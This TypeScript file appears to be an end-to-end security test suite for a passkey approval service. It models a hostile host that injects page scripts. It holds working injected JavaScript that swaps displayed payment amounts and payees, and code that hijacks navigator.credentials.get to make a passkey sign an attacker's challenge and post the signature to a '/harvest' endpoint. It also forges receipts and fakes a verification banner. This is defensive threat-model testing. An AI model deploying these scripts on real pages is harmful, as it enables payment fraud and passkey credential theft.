/** Lies of the pages, in Chromium: the host adds its own script to the pages of the service. */
import { createHash } from 'node:crypto'
import { shopCode } from '@beak/client/trust'
import { verifyOutcome } from '@beak/client/verify'
import { canonicalText } from '@beak/proofs/canonical'
import type { DecisionStatement3 } from '@beak/proofs/receipts/decision-statement'
import type { DecisionProof3 } from '@beak/proofs/receipts/outcome-schema'
import { button, hydrated, signInAs } from '@/e2e/browser'
import { inbox } from '@/e2e/controls/inbox'
import { signInWithPasskey } from '@/e2e/controls/sign-in'
import { eventually } from '@/e2e/server'
import { db } from '@/lib/db/client'
import { proveEnrolment } from '@/lib/domain/tlog/prove-logged'
import type { Evidence, Lie } from '../evidence'
import { forgeReceipt, madeUpStatement, offerOf, treeOf } from '../host/forge'
import { logNow } from '../host/start'
import { ask, receiptOf, termsOf, use } from '../people/decide'
import { openBrowser, type World } from '../people/world'
import { madeUpLies } from './made-up'

/** A script that shows other texts than the page has, also in what the page adds later. */
const showInstead = (texts: Record<string, string>) => `
  const texts = ${JSON.stringify(texts)}
  const change = () => {
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
    while (walker.nextNode())
      for (const [real, shown] of Object.entries(texts))
        if (walker.currentNode.nodeValue.includes(real))
          walker.currentNode.nodeValue = walker.currentNode.nodeValue.replaceAll(real, shown)
  }
  addEventListener('DOMContentLoaded', () => {
    new MutationObserver(change).observe(document.body, { subtree: true, childList: true, characterData: true })
    change()
  })`

/** A script that lets the next passkey sign another challenge, and sends the signature to the host. */
const signInstead = (challenge: string) => `
  const real = navigator.credentials.get.bind(navigator.credentials)
  const bytes = Uint8Array.from(atob('${challenge}'.replace(/-/g, '+').replace(/_/g, '/')), (one) => one.charCodeAt(0))
  let isDone = false
  navigator.credentials.get = async (options) => {
    if (options.mediation === 'conditional') return new Promise(() => undefined)
    if (isDone) return real(options)
    isDone = true
    const credential = await real({ ...options, publicKey: { ...options.publicKey, challenge: bytes } })
    await fetch('/harvest', { method: 'POST', body: JSON.stringify(credential.toJSON()) })
    return credential
  }`

/** Nadia reads 25 to a shop, and her passkey signs 5000 to Mallory. */
async function otherText(world: World): Promise<Evidence> {
  const { host, page } = world
  const terms = termsOf(world)
  const peckId = await ask(world, terms)
  host.front.addScript(showInstead({ '5,000': '25', '5000': '25', 'Mallory Ltd': 'Shop Ltd' }))
  await page.goto(`/pecks/${peckId}`)
  await hydrated(page)
  const main = page.getByRole('main')
  await main.getByText('Shop Ltd').first().waitFor()
  const text = (await main.textContent()) ?? ''
  if (!text.includes('25') || /5,?000|Mallory/.test(text))
    throw new Error(`the page shows the truth:\n${text}`)
  await inbox.approveWithPasskey(main).click()
  await inbox.approvedByPasskey(main).waitFor()
  host.front.addScript(null)
  const offer = await use(world, { peckId, terms })
  await logNow(host)
  return { offer, kept: await receiptOf(world, peckId), shownLater: () => receiptOf(world, peckId) }
}

/** Nadia only signs in. */
async function harvestedSignIn(world: World): Promise<Evidence> {
  const { host, nadia, page } = world
  const terms = termsOf(world)
  const log = treeOf(await logNow(host))
  const shown = shopCode()
  // The host knows the hash of the code that a shop shows, and not the code.
  const code = { hash: shown.code_hash, typed: shown.code === '000000' ? '111111' : '000000' }
  const statement = madeUpStatement(terms, { peck_id: await ask(world, terms), log, code })
  const passkey = await harvest(world, statement)
  await page.context().clearCookies()
  await signInAs(page.context(), host.server, nadia)
  const credentialId = passkey.credential_id
  const { id: passkeyId } = await db().passkey.findUniqueOrThrow({ where: { credentialId } })
  const proof = { ducklingId: nadia.id, passkeyId, credentialId, publicKey: passkey.public_key, log }
  const enrolment = await proveEnrolment(db(), proof)
  const receipt = forgeReceipt(terms, { statement, passkey, enrolment })
  const policy = { issuer: host.url, keys: host.jwks, require: 'signed', code: shown } as const
  const verdict = await verifyOutcome(receipt, policy)
  if (verdict.ok || verdict.fault.part !== 'policy' || verdict.fault.reason !== 'code')
    throw new Error('a shop that shows a code accepted a signature from a sign-in')
  return { offer: offerOf(terms, receipt) }
}

/** Signs Nadia out and lets her sign in with her passkey, which signs a statement instead. Her second try is honest and succeeds. */
async function harvest(
  { host, page, passkeys }: World,
  statement: DecisionStatement3,
): Promise<DecisionProof3> {
  const challenge = createHash('sha256').update(canonicalText(statement)).digest('base64url')
  let harvested = ''
  const end = host.front.answer('POST /harvest', (body) => {
    harvested = body
    return {}
  })
  await page.context().clearCookies()
  host.front.addScript(signInstead(challenge))
  await page.goto('/signin')
  await hydrated(page)
  await signInWithPasskey(page)
  const { id, response } = JSON.parse(await eventually(() => harvested || null))
  await page.getByRole('alert').filter({ hasText: /\S/ }).first().waitFor()
  await signInWithPasskey(page)
  await page.waitForURL((url) => !url.pathname.endsWith('/signin'))
  host.front.addScript(null)
  end()
  const { authenticatorData, clientDataJSON, signature } = response
  const public_key = passkeys.find(({ credential_id }) => credential_id === id)?.public_key ?? ''
  const assertion = { authenticatorData, clientDataJSON, signature }
  return { credential_id: id, public_key, assertion, endorsements: [] }
}

const verified = 'Signed with a passkey that you have pinned'

/** The page of the service for receipts says what the host wants. */
async function ownPages(world: World, site: Parameters<Lie['play']>[1]): Promise<Evidence> {
  const [first] = madeUpLies
  const made = await first?.play(world, site)
  const page = await openBrowser(world.host, null)
  const check = async (script: string | null): Promise<string> => {
    world.host.front.addScript(script)
    await page.goto('/receipts')
    await hydrated(page)
    await page.getByLabel('Receipt text').fill(JSON.stringify(made?.offer?.answer.receipt))
    await button(page, 'Check receipt').click()
    const heading = page.getByRole('heading', { name: /Only the service says so|Signed with a passkey/ })
    const text = (await heading.first().textContent()) ?? ''
    world.host.front.addScript(null)
    return text
  }
  const truth = 'Only the service says so'
  const honest = await check(null)
  if (!honest.startsWith(truth)) throw new Error(`the honest page says "${honest}"`)
  const shown = await check(showInstead({ [truth]: verified }))
  return { isBelieved: async () => shown.startsWith(verified) }
}

export const signedPageLies: Lie[] = [
  {
    forged: 'Another text on the page: Nadia reads 25 to a shop, and her passkey signs 5,000 to Mallory',
    access: 'pages',
    play: otherText,
    why: 'a passkey shows no text',
  },
  {
    forged: 'A signature from a sign-in: the challenge of the sign-in is the SHA-256 of an approval',
    access: 'pages, key of the service',
    play: harvestedSignIn,
    why: 'a passkey signs any challenge of its site',
  },
]

export const ownPageLies: Lie[] = [
  {
    forged: 'The page of the service for receipts: it says that a made-up receipt is verified',
    access: 'pages, key of the service',
    play: ownPages,
    isSameEverywhere: true,
    why: 'the host serves this page',
  },
]
